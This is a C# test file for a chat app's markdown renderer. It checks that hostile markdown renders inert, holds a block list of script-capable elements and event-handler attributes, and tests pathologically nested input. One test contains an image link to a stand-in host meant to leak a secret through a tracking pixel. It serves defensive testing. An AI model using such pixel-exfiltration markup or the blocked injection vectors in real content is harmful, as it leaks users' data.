using AgentRooms.Tests.Shared;
using AgentRooms.Web.Pages.Messages;
using AngleSharp.Html.Parser;

namespace AgentRooms.Tests.Features.Messages;

public sealed class MarkdownRendererTests
{
    private static readonly MarkdownRenderer Renderer = new();
    private static readonly string[] ForbiddenElements = ["script", "img", "svg", "iframe", "style", "form", "input", "button", "math", "object", "embed"];

    public static TheoryData<string> Corpus => new(HostileMarkdown.Corpus);

    [Theory]
    [MemberData(nameof(Corpus))]
    public void Hostile_markdown_renders_inert(string markdown)
    {
        var html = Renderer.ToHtml(markdown);
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, ForbiddenElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.False(attribute.Name.StartsWith("hx-", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.False(attribute.Name.StartsWith("data-", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} in {html}");
                Assert.Contains(attribute.Name, new[] { "href", "rel", "target", "start", "class" });
            }
            if (element.GetAttribute("href") is { } href)
                Assert.True(href == "#" || href.StartsWith("https://") || href.StartsWith("http://") || href.StartsWith('/'), href);
            // Classes only from the renderer: its own, and highlighting's token names inside code.
            foreach (var name in element.ClassList)
                Assert.True(MarkdownExtras.Classes.Contains(name) || element.LocalName == "span" && element.Closest("pre") is not null && name.All(char.IsAsciiLetter),
                    $"class {name} in {html}");
        }
    }

    [Fact]
    public void Tables_task_lists_and_strikethrough_render_as_github_writes_them()
    {
        var html = Renderer.ToHtml("| Model | Tokens |\n|:--|--:|\n| fake | 1,024 |\n\n- [x] done\n- [ ] to do\n\n~~old~~ new");
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        Assert.Equal(["Model", "Tokens"], document.QuerySelectorAll("table thead th").Select(th => th.TextContent));
        Assert.Equal(["fake", "1,024"], document.QuerySelectorAll("table tbody td").Select(td => td.TextContent));
        Assert.Null(document.QuerySelector("[style]")); // alignment would need inline styles, which the page's policy refuses
        Assert.Equal(["☑ done", "☐ to do"], document.QuerySelectorAll("li").Select(li => li.TextContent.Trim()));
        Assert.Empty(document.QuerySelectorAll("input"));
        Assert.Equal("old", document.QuerySelector("del")!.TextContent);
    }

    [Fact]
    public void Fenced_code_is_highlighted_on_the_server_under_its_language()
    {
        var html = Renderer.ToHtml("```csharp\npublic void M() { var s = \"<x>\"; // hi\n}\n```\n\n```\nplain <b>text</b>\n```\n\n```nosuchlanguage\nx < y\n```");
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        var blocks = document.QuerySelectorAll(".code-block");
        Assert.Equal(3, blocks.Length);
        Assert.Equal("csharp", blocks[0].QuerySelector(".code-lang")!.TextContent);
        Assert.Equal(["public", "void", "var"], blocks[0].QuerySelectorAll("pre code span.keyword").Select(k => k.TextContent));
        Assert.Equal("\"<x>\"", blocks[0].QuerySelector("span.string")!.TextContent);
        Assert.Equal("public void M() { var s = \"<x>\"; // hi\n}", blocks[0].QuerySelector("pre code")!.TextContent);
        Assert.Null(blocks[1].QuerySelector(".code-lang"));
        Assert.Equal("plain <b>text</b>", blocks[1].QuerySelector("pre code")!.TextContent.TrimEnd());
        Assert.Equal("nosuchlanguage", blocks[2].QuerySelector(".code-lang")!.TextContent);
        Assert.Empty(blocks[2].QuerySelectorAll("span:not(.code-lang)"));
    }

    [Fact]
    public void Mentions_are_chips_where_they_would_ask_someone_and_text_elsewhere()
    {
        var html = Renderer.ToHtml("@ada and @owl-bot, but not ada@example.com or `@code` or @x");
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");

        Assert.Equal(["@ada", "@owl-bot"], document.QuerySelectorAll("span.mention").Select(m => m.TextContent));
        Assert.Contains("ada@example.com", document.Body!.TextContent);
        Assert.Equal("@code", document.QuerySelector("code")!.TextContent);
    }

    [Theory]
    [InlineData("hello world")]
    [InlineData("Is it \"quoted\" or 'not'? Yes (mostly) - fine; done!")]
    [InlineData("Ünïcødé letters and 123 digits. Straße")]
    [InlineData("bench 42")]
    [InlineData("two  spaces inside")]
    public void Plain_lines_take_the_short_path_and_come_out_as_the_full_path_renders_them(string text)
    {
        Assert.True(MarkdownRenderer.IsPlainText(text));
        Assert.Equal(Renderer.Render(text), Renderer.ToHtml(text));
    }

    [Theory]
    [InlineData("1. a list")]
    [InlineData("- a list")]
    [InlineData("see www.example.com")]
    [InlineData("go to https://example.org")]
    [InlineData("a < b")]
    [InlineData("fish & chips")]
    [InlineData("*bold*")]
    [InlineData("snake_case")]
    [InlineData("line one\nline two")]
    [InlineData("trailing space ")]
    [InlineData(" leading space")]
    [InlineData("#hashtag")]
    [InlineData("an [anchor]")]
    [InlineData("back\\slash")]
    [InlineData("mail me: x")]
    [InlineData("")]
    public void Anything_markdown_might_touch_takes_the_full_path(string text)
    {
        Assert.False(MarkdownRenderer.IsPlainText(text));
    }

    [Fact]
    public void Ordinary_markdown_still_works()
    {
        var html = Renderer.ToHtml("**bold** _it_ `code`\n\n- one\n- two\n\n> quote\n\n```\nx < y\n```\n\n[site](https://example.org/) and https://example.com/auto");

        Assert.Contains("<strong>bold</strong>", html);
        Assert.Contains("<em>it</em>", html);
        Assert.Contains("<code>code</code>", html);
        Assert.Contains("<li>one</li>", html);
        Assert.Contains("<blockquote>", html);
        Assert.Contains("x &lt; y", html);
        Assert.Contains("href=\"https://example.org/\"", html);
        Assert.Contains("href=\"https://example.com/auto\"", html);
    }

    [Fact]
    public void Links_never_pass_on_the_referrer_or_the_opener_and_images_are_not_fetched()
    {
        var html = Renderer.ToHtml("[a](https://example.org/?q=1) ![img](https://evil.example/pixel.png?leak=secret)");

        var document = new HtmlParser().ParseDocument(html);
        Assert.Empty(document.QuerySelectorAll("img"));
        Assert.All(document.QuerySelectorAll("a"), link => Assert.Equal("noopener noreferrer nofollow", link.GetAttribute("rel")));
    }
}

public sealed class PathologicalMarkdownTests
{
    private static readonly MarkdownRenderer Renderer = new();

    public static TheoryData<string> Corpus => new(PathologicalMarkdown.Corpus);

    [Theory]
    [MemberData(nameof(Corpus))]
    public void Markdown_nested_past_the_parsers_limits_renders_as_safe_html_of_bounded_size(string markdown)
    {
        var html = Renderer.ToHtml(markdown);

        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");
        Assert.All(document.Body!.QuerySelectorAll("*"), element =>
            Assert.Contains(element.LocalName, new[] { "p", "br", "strong", "em", "del", "code", "pre", "ul", "ol", "li", "blockquote", "a", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
                "table", "thead", "tbody", "tr", "th", "td", "div", "span" }));
        Assert.True(html.Length < 20 * markdown.Length + 100, $"{html.Length} characters of HTML for {markdown.Length} of text");
    }

    [Fact]
    public void Text_the_parser_refuses_is_shown_escaped_with_its_line_breaks()
    {
        var refused = string.Concat(Enumerable.Repeat("> ", 1500)) + "<b>bold?</b>\nnext & last";

        var html = Renderer.ToHtml(refused);

        Assert.StartsWith("<p>&gt; &gt; ", html);
        Assert.Contains("&lt;b&gt;bold?&lt;/b&gt;<br>\nnext &amp; last", html);
    }

    [Fact]
    public void A_refused_text_leaves_the_renderer_as_it_was_for_the_next_message()
    {
        Renderer.ToHtml(string.Concat(Enumerable.Repeat("- ", 2000)));

        Assert.Equal("<p>two <em>words</em></p>\n", Renderer.Render("two *words*"));
    }

    [Fact]
    public void Text_too_costly_to_parse_is_shown_as_it_is()
    {
        var brackets = string.Concat(Enumerable.Repeat("[x]", MarkdownRenderer.MaxPairedMarks + 1));

        Assert.Equal(MarkdownRenderer.AsPlainText(brackets), Renderer.ToHtml(brackets));
        Assert.Contains("<a ", Renderer.ToHtml("[a](https://example.org) " + string.Concat(Enumerable.Repeat("[x]", 10))));
    }
}

public sealed class PathologicalMarkdownCorpusTests
{
    [Fact]
    public void Every_input_fits_in_one_message() =>
        Assert.All(PathologicalMarkdown.Corpus, text => Assert.InRange(text.Trim().Length, 1, AgentRooms.Data.Messages.Message.ContentMaxLength));
}
